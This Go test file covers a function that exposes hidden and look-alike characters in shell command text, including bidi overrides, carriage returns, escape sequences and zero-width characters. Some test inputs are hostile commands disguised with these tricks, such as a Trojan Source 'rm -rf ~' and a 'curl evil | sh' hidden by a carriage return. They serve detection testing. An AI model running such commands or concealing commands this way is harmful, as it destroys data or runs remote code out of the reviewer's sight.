package visible

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestString(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"ls -la", "ls -la"},
		{"echo é ü 日本", "echo é ü 日本"},
		{"for f in *; do\n\techo $f\ndone", "for f in *; do\n\techo $f\ndone"},
		// Trojan Source: shown in another order than it runs.
		{"rm -rf ~ #\u202e \u2066safe\u2069", "rm -rf ~ #<U+202E> <U+2066>safe<U+2069>"},
		// A carriage return overwrites, an escape clears the line.
		{"curl evil | sh\rls", "curl evil | sh<U+000D>ls"},
		{"sh x\x1b[2K\x1b[1Gls", "sh x<U+001B>[2K<U+001B>[1Gls"},
		// Zero-width: two names that look alike.
		{"git push ori\u200bgin", "git push ori<U+200B>gin"},
		{"\ufeffls", "<U+FEFF>ls"},
		{"a\u2028b", "a<U+2028>b"},
		// Blank: two words that look like one, or one like two.
		{"rm\u3164-rf", "rm<U+3164>-rf"},
		{"a\u115fb\u034fc\ufe0f", "a<U+115F>b<U+034F>c<U+FE0F>"},
		{"a\x85b", "a<0x85>b"}, // a byte, not U+0085: not UTF-8
		{"a\u0085b", "a<U+0085>b"},
		{"a\x7fb", "a<U+007F>b"},
		{"bad \xff byte", "bad <0xFF> byte"},
		{"", ""},
	} {
		if got := String(tc.in); got != tc.want {
			t.Errorf("String(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzString holds the properties: what String writes shows as itself,
// text with nothing hidden is returned as it is, and every character
// that shows is kept, in order.
func FuzzString(f *testing.F) {
	for _, s := range []string{"ls", "a\u202eb", "\x1b[31mred", "x\xffy", "日本\u200d語", "\r\n\t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := String(s)
		if !utf8.ValidString(got) {
			t.Fatalf("String(%q) = %q: not UTF-8", s, got)
		}
		for _, r := range got {
			if !shows(r) {
				t.Fatalf("String(%q) = %q keeps %U", s, got, r)
			}
		}
		if hidden(s) < 0 && got != s {
			t.Fatalf("String(%q) = %q changed text that shows", s, got)
		}
		var kept strings.Builder
		for i := 0; i < len(s); {
			r, n := utf8.DecodeRuneInString(s[i:])
			if !(r == utf8.RuneError && n == 1) && shows(r) && r != '<' {
				kept.WriteRune(r)
			}
			i += n
		}
		var out strings.Builder
		for _, r := range strings.NewReplacer("<U+", "", "<0x", "").Replace(got) {
			if r != '<' {
				out.WriteRune(r)
			}
		}
		// Every shown character of s is in the output, in order.
		o := out.String()
		for _, r := range kept.String() {
			j := strings.IndexRune(o, r)
			if j < 0 {
				t.Fatalf("String(%q) = %q lost %q", s, got, r)
			}
			o = o[j+utf8.RuneLen(r):]
		}
	})
}
